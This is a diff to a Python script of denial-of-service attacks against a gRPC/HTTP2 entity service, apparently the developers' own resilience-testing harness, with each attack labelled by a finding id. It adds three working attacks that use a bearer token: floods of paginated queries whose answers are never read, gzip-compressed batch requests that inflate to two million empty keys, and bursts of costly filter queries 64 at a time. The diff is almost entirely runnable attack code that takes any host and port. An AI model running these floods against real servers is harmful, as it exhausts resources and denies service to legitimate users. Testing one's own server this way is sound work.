@@ -1,6 +1,6 @@
 #!/usr/bin/env python3
 # SPDX-License-Identifier: Apache-2.0
-"""What a caller without a credential can do to a server: one function per attack, each goes on until its time is over.
+"""What a caller can do to a server, without a credential or with one: one function per attack, each goes on until its time is over.
 
 Who is hung up on connects again at once. usage: attacks.py NAME [tls:]HOST:PORT SECONDS [TOKEN]; prints a line when it begins, then what was done, as JSON.
 """
@@ -15,6 +15,8 @@ from frames import (CONTINUATION, END_HEADERS, HEADERS, INITIAL_WINDOW_SIZE, Con
                     header_block, message, open_stream, reset)
 
 IMPORT = "/tavola.v1.EntityService/ImportEntities"
+BATCH_GET = "/tavola.v1.EntityService/BatchGetEntities"
+QUERY = "/tavola.v1.EntityService/QueryEntities"
 GET = "/tavola.v1.EntityService/GetEntity"
 UPSERT = "/tavola.v1.EntityService/InsertOrReplaceEntity"
 CHECK = "/grpc.health.v1.Health/Check"
@@ -226,6 +228,69 @@ def reflection_unread(address, tally):
     again_and_again(address, tally, attack, [(INITIAL_WINDOW_SIZE, 0)])
 
 
+def calls_unread(address, tally, path, request, token, count):
+    """Many calls at once on each connection, whose answers are not read."""
+    def attack(connection, tally):
+        for stream in range(1, 2 * count, 2):
+            if not connection.send(open_stream(stream, path, authorization="Bearer " + token)
+                                   + data_frames(stream, message(request)), tally.until):
+                return
+            tally.add("requests")
+        connection.read_for(max(0, tally.until - time.monotonic()))
+
+    again_and_again(address, tally, attack, [(INITIAL_WINDOW_SIZE, 0)])
+
+
+def unread_pages(address, tally, token):
+    """H6: 300 pages of 3 MB, by a caller who reads none."""
+    calls_unread(address, tally, QUERY, b"\x0a\x06\x0a\x04wide", token, 300)
+
+
+def many_elements(address, tally, token):
+    """H2: BatchGets of some kilobytes that inflate to two million empty keys."""
+    packed = gzip([b"\x0a\x04wide", b"\x12\x00" * (2 * MIB - 1024)])
+
+    def attack(connection, tally):
+        stream = 1
+        while not tally.is_over():
+            connection.windows[stream] = connection.initial
+            connection.send(open_stream(stream, BATCH_GET, grpc_encoding="gzip", authorization="Bearer " + token), tally.until)
+            send_body(connection, stream, message(packed, True), tally)
+            connection.read_for(0.05)
+            tally.add("requests")
+            stream += 2
+
+    again_and_again(address, tally, attack)
+
+
+def long_filters(address, tally, token):
+    """H3: pages with as many searches as a filter may have, over megabytes of text, 64 at once."""
+    searches = " or ".join(f"contains(Text,'{number}y')" for number in range(10, 26)).encode()
+    query = b"\x0a\x04wide" + b"\x12" + number_of(len(searches)) + searches
+
+    def attack(connection, tally):
+        request = b"\x0a" + number_of(len(query)) + query
+        stream = 1
+        while not tally.is_over():
+            for _ in range(64):
+                connection.send(open_stream(stream, QUERY, authorization="Bearer " + token)
+                                + data_frames(stream, message(request)), tally.until)
+                tally.add("requests")
+                stream += 2
+            connection.read_for(0.2)
+
+    again_and_again(address, tally, attack)
+
+
+def number_of(value):
+    """A varint."""
+    out = b""
+    while value > 127:
+        out += bytes([value & 127 | 128])
+        value >>= 7
+    return out + bytes([value])
+
+
 def health(address, tally):
     """C6: 200 health checks, each 4 kB of gzip with two million unknown fields."""
     packed = gzip([b"\x7a\x00" * (2 * MIB - 1024)])
@@ -302,6 +367,9 @@ ATTACKS = {
     "reflection": reflection,
     "reflection_unread": reflection_unread,
     "health": health,
+    "unread_pages": unread_pages,
+    "many_elements": many_elements,
+    "long_filters": long_filters,
     "endless_header": endless_header,
     "one_large_header": one_large_header,
     "open_imports": open_streams(IMPORT),
